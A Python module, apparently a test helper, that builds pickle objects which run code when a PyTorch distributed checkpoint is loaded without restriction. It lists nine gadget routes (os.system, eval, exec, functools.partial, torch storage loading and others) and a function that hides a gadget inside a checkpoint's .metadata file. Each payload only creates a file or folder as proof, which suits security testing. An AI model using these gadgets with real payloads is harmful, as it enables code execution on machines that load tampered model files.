"""Pickles that act when they are read without restriction: each makes a file or folder, the proof that it ran."""

import builtins
import functools
import io
import operator
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.metadata import Metadata


class Call:
    """An object whose unpickling calls a function."""

    def __init__(self, function: Callable, *values: Any):
        self._call = function, values

    def __reduce__(self) -> Any:
        return self._call


def saved(value: Any) -> bytes:
    """Returns an object as the bytes that torch.save writes."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


GADGETS: dict[str, Callable[[Path], Call]] = {
    "os.system": lambda proof: Call(os.system, f"touch {proof}"),
    "eval": lambda proof: Call(builtins.eval, f"open({str(proof)!r}, 'w')"),
    "exec": lambda proof: Call(builtins.exec, f"open({str(proof)!r}, 'w')"),
    "open": lambda proof: Call(builtins.open, str(proof), "w"),
    "partial": lambda proof: Call(functools.partial(os.mkdir, str(proof))),
    "methodcaller": lambda proof: Call(operator.methodcaller("touch"), proof),
    "attrgetter": lambda proof: Call(map, operator.attrgetter("name"), [Call(os.mkdir, str(proof))]),
    "torch": lambda proof: Call(torch.storage._load_from_bytes, saved(Call(os.mkdir, str(proof)))),
    "loader": lambda proof: Call(pickle.loads, pickle.dumps(Call(os.mkdir, str(proof)))),
}
"""The hostile objects, by name."""


def hide_in_metadata(part: Path, gadget: Call) -> None:
    """Puts an object beside the metadata of a part, which says the same as before."""
    path = part / ".metadata"
    metadata: Metadata = pickle.loads(path.read_bytes())
    metadata.planner_data = gadget
    path.write_bytes(pickle.dumps(metadata))
